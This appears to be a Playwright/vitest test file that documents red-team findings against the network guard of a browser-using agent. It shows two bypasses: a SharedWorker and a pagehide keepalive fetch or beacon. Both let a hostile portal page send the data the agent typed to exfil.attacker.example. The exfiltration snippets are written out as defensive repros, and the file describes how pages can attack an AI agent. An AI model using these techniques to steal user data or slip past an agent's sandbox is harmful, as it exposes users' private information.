import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CHROMIUM_FLAGS, chromiumPath } from '../../src/agent/browser/chromium';
import { loadPortalProfile } from '../../src/agent/case/portal-profiles';
import { contextOptionsFor, installWatchdogs } from '../../src/agent/guard/browser';
import { bindLabProfile, startLab, type Lab } from '../../src/lab';

/**
 * Holes the red team found in the guard, each as the smallest repro: a portal page (the portal
 * compromised, or showing user content) in a context with every watchdog Portal Desk installs.
 * A hole's test is `it.fails` until the guard is fixed; then it passes, `it.fails` fails, and the
 * marker comes off.
 *
 * HOLE 1, SharedWorker: the network lock is Playwright request routing on the context
 * (`context.route`, `routeWebSocket`), and in Chromium that routing does not see requests made by
 * a SharedWorker (service workers are off: `serviceWorkers: 'block'`; dedicated workers are
 * routed). A page script can start a SharedWorker (from a same-origin script or a blob: URL) and
 * post it the values the agent typed; the worker's fetch, sendBeacon-like POST, WebSocket and
 * importScripts reach any host: an attacker name, an IP literal (which no resolver rule stops),
 * the portal's host on another port. The redirect lock does not see them either (it attaches to
 * the page and its frames, not to worker targets). Found by attack `shared-worker`.
 * A fix belongs in src/agent/guard/watchdogs: attach to shared_worker targets (CDP
 * Target.setAutoAttach with waitForDebuggerOnStart on the browser session) and apply the same
 * Fetch lock there, or refuse them outright (e.g. an init script that removes `SharedWorker`,
 * backed by closing any shared_worker target that still appears).
 *
 * HOLE 2, requests sent while a page unloads: a `fetch(..., { keepalive: true })` or
 * `navigator.sendBeacon` started in a `pagehide` (or unload) handler reaches any host when the
 * agent navigates away or the page is closed: the request outlives its document, and the
 * network lock's routing no longer sees it (the same calls made while the page is alive are
 * stopped). A portal page can stash what the agent typed and send it on the way out. Found by
 * attack `unload-keepalive`. Closing the whole context did not leak in the lab. A fix belongs in
 * src/agent/guard/watchdogs: e.g. an init script that wraps `sendBeacon` and keepalive `fetch`
 * to refuse off-list addresses in the page itself, plus a browser-level lock that does not
 * depend on the document (CDP Fetch on the browser target, or a proxy the context must use).
 */

let lab: Lab;
let browser: Browser;
beforeAll(async () => {
  lab = await startLab();
  browser = await chromium.launch({ executablePath: chromiumPath(), args: [...CHROMIUM_FLAGS, `--host-resolver-rules=${lab.hostResolverRules}`] });
});
afterAll(async () => {
  await browser?.close();
  await lab?.stop();
});
beforeEach(() => lab.reset());

/** A portal page in a guarded context, exactly as a run gets one. */
async function guardedPortalPage(): Promise<{ page: Page; close: () => Promise<void> }> {
  const profile = bindLabProfile(loadPortalProfile('shops'), lab.port);
  const context = await browser.newContext(contextOptionsFor(profile));
  const watchdogs = await installWatchdogs(context, profile, () => undefined);
  const page = await watchdogs.openPage();
  await page.goto(`${lab.origin('shops')}/sign-in`);
  return { page, close: () => context.close() };
}

/** Starts a request to the attacker from a pagehide handler, then leaves the page the way the agent does. */
async function leakOnTheWayOut(page: Page, kind: 'keepalive' | 'beacon'): Promise<void> {
  const url = `http://exfil.attacker.example:${lab.port}/unload-${kind}`;
  await page.evaluate(
    ([target, how]) => {
      addEventListener('pagehide', () => {
        if (how === 'beacon') navigator.sendBeacon(target!, 'owner_pan=AMNPR6621D');
        else void fetch(target!, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'owner_pan=AMNPR6621D' }).catch(() => undefined);
      });
    },
    [url, kind],
  );
  await page.goto(`${lab.origin('shops')}/sign-in?next`);
  await page.waitForTimeout(1500);
}

const WORKER_PATH = '/lab-attack/page/shared-worker/shared-worker.js?atk=shared-worker';

describe('guard holes found by the red team', () => {
  it('control: a dedicated Worker\'s requests are stopped by the network lock', async () => {
    const { page, close } = await guardedPortalPage();
    try {
      await page.evaluate((src) => {
        new Worker(src.replace('shared-worker.js', 'worker.js').replace('/shared-worker/', '/dedicated-worker/')).postMessage('owner_pan=AMNPR6621D');
      }, WORKER_PATH);
      await page.waitForTimeout(1500);
      expect(lab.attackRecords().hits.some((h) => h.kind === 'page')).toBe(true);
      expect(lab.attackerRequests()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);

  it('HOLE, as it stands: the attacker receives the PAN from a SharedWorker (flips when the guard is fixed)', async () => {
    const { page, close } = await guardedPortalPage();
    try {
      await page.evaluate((src) => {
        const worker = new SharedWorker(src);
        worker.port.start();
        worker.port.postMessage('owner_pan=AMNPR6621D');
      }, WORKER_PATH);
      await expect
        .poll(() => lab.attackerRequests().filter((r) => r.host === 'exfil.attacker.example' && r.body === 'owner_pan=AMNPR6621D').length, { timeout: 15_000 })
        .toBeGreaterThan(0);
    } finally {
      await close();
    }
  }, 120_000);

  it.fails('HOLE: a SharedWorker started by a portal page sends the typed case data to the attacker', async () => {
    const { page, close } = await guardedPortalPage();
    try {
      await page.evaluate((src) => {
        const worker = new SharedWorker(src);
        worker.port.start();
        worker.port.postMessage('owner_pan=AMNPR6621D');
      }, WORKER_PATH);
      await page.waitForTimeout(1500);
      // The worker script was served (proof the attempt was made)...
      expect(lab.attackRecords().hits.some((h) => h.kind === 'page' && h.attack === 'shared-worker')).toBe(true);
      // ...and nothing may reach the attacker. Today the attacker receives the PAN.
      expect(lab.attackerRequests()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);

  it('control: the same keepalive fetch and beacon, sent while the page is alive, are stopped', async () => {
    const { page, close } = await guardedPortalPage();
    try {
      await page.evaluate((target) => {
        void fetch(target, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'owner_pan=AMNPR6621D' }).catch(() => undefined);
        navigator.sendBeacon(target, 'owner_pan=AMNPR6621D');
      }, `http://exfil.attacker.example:${lab.port}/alive`);
      await page.waitForTimeout(1500);
      expect(lab.attackerRequests()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);

  it('HOLE, as it stands: a keepalive fetch and a beacon sent from pagehide reach the attacker (flips when the guard is fixed)', async () => {
    const { page, close } = await guardedPortalPage();
    try {
      await leakOnTheWayOut(page, 'keepalive');
      await leakOnTheWayOut(page, 'beacon');
      expect(lab.attackerRequests().map((r) => `${r.path} ${r.body}`).sort()).toEqual(['/unload-beacon owner_pan=AMNPR6621D', '/unload-keepalive owner_pan=AMNPR6621D']);
    } finally {
      await close();
    }
  }, 120_000);

  it.fails('HOLE: a request a portal page sends while the agent leaves it reaches the attacker', async () => {
    const { page, close } = await guardedPortalPage();
    try {
      await leakOnTheWayOut(page, 'keepalive');
      expect(lab.attackerRequests()).toEqual([]);
    } finally {
      await close();
    }
  }, 120_000);
});
